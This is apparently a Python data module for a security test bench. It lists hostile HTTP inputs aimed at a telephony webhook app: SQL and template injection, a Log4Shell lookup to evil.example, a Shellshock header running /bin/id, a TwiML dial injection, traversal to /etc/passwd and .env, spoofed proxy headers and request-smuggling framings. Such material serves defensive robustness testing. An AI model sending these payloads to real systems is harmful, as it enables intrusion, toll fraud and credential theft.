"""What hostile requests are made of: texts, bodies, headers, addresses, and ways to frame a request."""

from bench.load import ACCOUNT

FORGED = "f0rgedf0rged"  # stands in all that no guard may let in
VICTIM = "+15550009999"  # whom nobody may dial who has no right to
EVIL = "evil.example"
KNOWN = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE")
METHODS = (*KNOWN, "PROPFIND", "MKCOL", "LOCK", "PURGE", "DEBUG", "TRACK", "FOO", "QUERY")
FORM = "application/x-www-form-urlencoded; charset=utf-8"

TEXTS = [
    b"", b" ", b"\0", b"a\0b", b"\xc0\xaf", b"\xed\xa0\x80", b"\xff\xfe", b"\xf8\x88\x80\x80\x80", "ping".encode("utf-16"),
    "\ufffe\uffff".encode(), "\ue000wTo\ue001\ue000sFrom\ue001".encode(), "\u202e\u200f\u2066".encode(), "👩‍👩‍👧‍👦🏴".encode(),
    "٣٤٥".encode(), "²½Ⅷ".encode(), b"-1", b"1e309", b"NaN", b"9" * 5000, b"0x7f", b"00", b"2147483648", b"9" * 9, b"1", b"2",
    b"' OR '1'='1' --", b'"; DROP TABLE calls; --', b"') UNION SELECT 1,2--", b"{{7*7}}", b"${jndi:ldap://evil.example/a}",
    b"<script>alert(1)</script>", b"]]></Say><Dial>+15550006789</Dial><Say><![CDATA[", b"<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    b"\r\nX-Injected: yes\r\n\r\n<html>", b"%0d%0aX-Injected:%20yes", b"\n2026-01-01 00:00:00 ERROR forged line", b"%s%n%x",
    b"../../etc/passwd", b"//evil.example", b"/\\evil.example", b"https://evil.example/", b"javascript:alert(1)", b"x" * 60_000,
    b"file:///etc/passwd", "🎉".encode() * 3000, b"a" * 257, b"client:", b"client:anna", b"sip:a@evil.example", b"+266696687",
    b"+1 555 000 2222", b"STOP", b"start", b"#1: hello", b"#" + b"9" * 400, b"#1", b"null", b"__proto__", b"`id`", b"=1+1",
]  # fmt: skip
NUMBERS = [b"+15550002222", b"+15550003333", b"+15550004444", b"+15550001111", b"+15550005555", b"client:anna"]
STATUSES = b"ringing in-progress completed busy no-answer failed canceled queued sent delivered".split()
USUAL: dict[bytes, list[bytes]] = {
    b"CallStatus": STATUSES, b"MessageStatus": STATUSES, b"DialCallStatus": STATUSES, b"From": NUMBERS, b"To": NUMBERS,
    b"Direction": [b"inbound", b"outbound-api", b"outbound-dial"], b"Digits": [b"1", b"2", b"3", b"9", b"#", b"2468", b""],
    b"SpeechResult": [b"reception"], b"RecordingStatus": [b"completed", b"failed"], b"RecordingDuration": [b"7", b"0"],
    b"TranscriptionStatus": [b"completed", b"failed"], b"TranscriptionText": [b"Hello."], b"QueueTime": [b"5", b"500"],
    b"QueueResult": [b"bridged", b"leave"], b"ErrorCode": [b"21610", b"30003"], b"CallDuration": [b"3"], b"NumMedia": [b"1"],
    b"AnsweredBy": [b"human", b"machine_end_beep", b"fax"], b"DialBridged": [b"true", b"false"], b"SequenceNumber": [b"0", b"3"],
    b"OptOutType": [b"STOP", b"START", b"HELP"], b"Body": [b"hello"], b"CallSid": [b"CA" + b"1" * 32], b"Timestamp": [b"x"],
    b"ParentCallSid": [b"CA" + b"2" * 32], b"RecordingSid": [b"RE" + b"3" * 32], b"MediaUrl0": [b"https://x/0"],
    b"AccountSid": [ACCOUNT.encode(), b"AC" + b"9" * 32],
}  # fmt: skip
OURS = ("attempt", "caller", "line", "turn", "connects", "step", "bodySHA256", "x")
KEPT = [b"SM" + b"c" * 32, b"CA" + b"1" * 32, b"CA" + b"2" * 32]  # SIDs of what is there, sooner or later
OPERATORS: dict[bytes, list[bytes]] = {
    b"to": NUMBERS, b"body": [b"hello"], b"say": [b"hello"], b"step": [b"start"], b"acknowledge": [b"yes"], b"before": [b"5"],
    b"machine": [b"leave", b"hangup"], b"as": [b"seen", b"never", b"sid"], b"sid": KEPT, b"reason": [b"a test"], b"admin": [b"1"],
    b"status": STATUSES,
}  # fmt: skip

JSON = [
    b"[" * 30_000, b'{"to":' * 8000, b"[[[]]]", b"null", b"", b"{", b'"x"', b'{"to": "\\ud800", "body": "\\udfff"}', b"NaN",
    b'{"Body": "\\ud800\\u0000", "CallSid": 5, "turn": 1e400}', b'{"a":' + b"9" * 9000 + b"}", b" " * 60_000, b"\xff\xfe{\0}\0",
    b'{"to": {"a": ["b"]}, "body": null}', b'{"to":"+1","to":"+2","__proto__":{}}', b'{"to": NaN}', '{"to": "x"}'.encode("utf-16"),
    b'{"to": "+15550002222", "body": "hello"}', b'{"CallSid": "CA1", "CallStatus": "ringing", "From": "+15550002222"}',
]  # fmt: skip
_PART = b"--x\r\nContent-Disposition: form-data; name"
MULTIPART = [
    b"", b"--x--", b"--x\r\n\r\n\r\n--x--", _PART + b'="to"\r\n\r\n+1\xff\r\n--x--\r\n', b"--x\r\nfoo\r\n\r\n--x--",
    _PART + b'="to"; filename="../../x"\r\nContent-Type: a; charset=zlib\r\n\r\nx\r\n--x--\r\n', _PART + b"=" + b"a" * 60_000,
    _PART + b"*=utf-16''%ff%fe; filename*=zlib''%00\r\n\r\nx\r\n--x--\r\n", (_PART + b'="a"\r\n\r\n\r\n') * 1100 + b"--x--",
]  # fmt: skip

TRICKS = [
    "/{}", "//{}", "///{}", "/./{}", "/x/../{}", "/%2e/{}", "/%2e%2e/{}", "/..;/{}", "/;x/{}", "/{};x=1", "/{}/", "/{}/.",
    "/{}%2f", "/{}%00", "/{}%20", "/{}.json", "/{}..%2f", "/{}?", "/{}??", "/{}#x", "/{}%23", "/%2f{}", "/%5c{}", "/\\{}",
    "/static/../{}", "/static/..%2f{}", "/static/%2e%2e/{}", "/static/....//{}", "/files/..%2f{}", "/{}%0d%0aX-Injected:%20yes",
    "/{}%c0%af", "/{}%ff", "/{}~", "/{}::$DATA", "http://evil.example/{}", "https://evil.example:443//{}", "http://127.0.0.1/{}",
    "//evil.example/{}", "/{}/%2e%2e/healthz", "/healthz/../{}",
]  # fmt: skip
FILES = [".env", ".git/config", "wsgi.py", "app/settings.py", "instance/switchboard.db", "etc/passwd", "server-status", "actuator"]

CLAIMS: list[dict[str, str]] = [
    {}, {"X-HTTP-Method-Override": "GET"}, {"X-Original-URL": "/make_call"}, {"X-Rewrite-URL": "/recordings"}, {"Host": EVIL},
    {"X-Forwarded-For": "127.0.0.1"}, {"X-Real-IP": "127.0.0.1"}, {"X-Forwarded-Host": EVIL}, {"X-Forwarded-Proto": "https"},
    {"Forwarded": f"host={EVIL}"}, {"X-Forwarded-Prefix": "//" + EVIL}, {"X-Remote-User": "operator"}, {"Remote-User": "operator"},
    {"Sec-Fetch-Site": "same-origin"}, {"Upgrade": "websocket", "Connection": "Upgrade"}, {"X_Forwarded_For": "1.1.1.1"},
    {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABk"}, {"SCRIPT_NAME": "/zzz"}, {"SCRIPT_NAME": "//" + EVIL},
    {"PATH_INFO": "/healthz"}, {"Script-Name": "/x"}, {"SCRIPT_NAME": "/make_call"},
]  # fmt: skip

ENDLESS = "Mon, 01 Jan 2024 00:00:00 +99999999999999999999"
ODD_HEADERS = {
    "Range": ["bytes=-", "bytes=9-1", "bytes=-0", "bytes=" + "0-0," * 900, "bytes=99999999999999999999-", "x=0-1", "bytes=0--1"],
    "If-Range": [ENDLESS, '"x', "\xff"], "If-None-Match": ["*", 'W/"' + "x" * 5000, "\xff"], "If-Match": ["*", "\xff"],
    "If-Modified-Since": [ENDLESS, "Mon, 01 Jan 99999999999999 00:00:00 GMT", "\xff", "x"], "If-Unmodified-Since": [ENDLESS],
    "Accept": ["q", "*/*;q=1e999", "text/html;q=nan", "text/html;x*=utf-16''%ff", ",,;=,", "a/b," * 1900, "text/html;" * 700],
    "Cookie": ["switchboard", 'switchboard="\\777\\400"', "a=b; " * 1500, "\xff=\xff", "switchboard=a; switchboard=b", "=;=;"],
    "Host": ["", ".", "a..b", "x" * 70 + ".y", "[::1", "evil.example@127.0.0.1", "xn--a", "a b", "x:99999999", "\xff", "/", "x:-1"],
    "Origin": ["null", "http://["], "Referer": ["http://[", "\xff"], "Expect": ["100-continue", "x"], "Purpose": ["\xff"],
    "Content-Type": [
        "multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; boundary=" + "y" * 300, "\xff/\xff", "",
        "multipart/form-data; boundary=x", "text/plain;a*=utf-16''%ff", "application/x-www-form-urlencoded; charset=zlib",
    ],
    "X-Forwarded-For": ["x, y, 999.999.999.999", "::ffff:1.2.3.4%eth0", "," * 3000, "", "\xff", "[::1]:80", "1.2.3.4, "],
    "Sec-Purpose": ["prefetch"], "Accept-Encoding": ["gzip;q=x"], "Content-Encoding": ["gzip"], "TE": ["trailers"],
    "Trailer": ["Host"], "Via": ["1.1 x" * 800], "X-Custom": ["y" * 8000], "Accept-Language": ["%s" * 900], "Keep-Alive": ["-1"],
    "User-Agent": ["() { :;}; /bin/id", "${jndi:ldap://evil.example}"], "Connection": ["keep-alive, Host", "Upgrade"],
}  # fmt: skip

_POST, _GET = b"POST /sms_url HTTP/1.1\r\n<host>", b"GET /recordings HTTP/1.1\r\n<host>"
_CHUNKED = _POST + b"Transfer-Encoding: chunked\r\n\r\n"
# <host> stands for a right Host header, <hidden> for a second request.
FRAMINGS = [
    _POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n<hidden>",
    _POST + b"Content-Length: 0\r\nContent-Length: 40\r\n\r\n<hidden>",
    _POST + b"Content-Length: 3, 3\r\n\r\nabc<hidden>",
    _POST + b"Content-Length: -1\r\n\r\n<hidden>",
    _POST + b"Content-Length: +3\r\n\r\nabc<hidden>",
    _POST + b"Content-Length: 99999999999999999999\r\n\r\nabc",
    _POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n<hidden>",
    _POST + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n<hidden>",
    _POST + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n<hidden>",
    _CHUNKED + b"zz\r\n<hidden>",
    _CHUNKED + b"ffffffffffffffffff\r\n<hidden>",
    _CHUNKED + b"1;x=\r\na\r\n0\r\nHost: x\r\n\r\n",
    _CHUNKED + b"5\r\nab",
    _CHUNKED.replace(b"sms_url", b"voice_url") + b"zz\r\n",
    _CHUNKED.replace(b"sms_url", b"sign_in") + b"1\na\n",
    _CHUNKED.replace(b"HTTP/1.1", b"HTTP/1.0") + b"0\r\n\r\n<hidden>",
    _GET + b" folded: x\r\n\r\n",
    _GET + b"X: a\r\n\tb\r\n\r\n",
    _GET + b"<host>\r\n",
    _GET.replace(b"<host>", b"\r\n"),
    _GET.replace(b"1.1", b"9.9") + b"\r\n",
    b"GET /recordings\r\n\r\n",
    b"GET  /recordings  HTTP/1.1\r\n<host>\r\n",
    b"GET /recordings HTTP/1.1\nHost: x\n\n",
    _GET.lower() + b"\r\n",
    _GET.replace(b"recordings", b"recordings\xff\xfe") + b"\r\n",
    _GET + b"X\0Y: z\r\n\r\n",
    _GET + b"X: a\0b\r\n\r\n",
    _GET + b": x\r\n\r\n",
    _GET + b"no colon\r\n\r\n",
    _GET + b"X: y\r\n" * 300 + b"\r\n",
    _GET + b"X: " + b"y" * 90_000 + b"\r\n\r\n",
    b"GET /" + b"a" * 90_000 + b" HTTP/1.1\r\n<host>\r\n",
    b"CONNECT evil.example:443 HTTP/1.1\r\n<host>\r\n",
    b"OPTIONS * HTTP/1.1\r\n<host>\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
    b"PROXY TCP4 127.0.0.1 127.0.0.1 1 1\r\n" + _GET + b"\r\n",
    _GET + b"X-Forwarded-Proto: https\r\nX-Forwarded-Ssl: off\r\n\r\n",
    b"POST /sign_in HTTP/1.1\r\n<host>Expect: 100-continue\r\nContent-Length: 70000\r\n\r\n",
    b"\r\n" * 500 + _GET + b"\r\n",
]
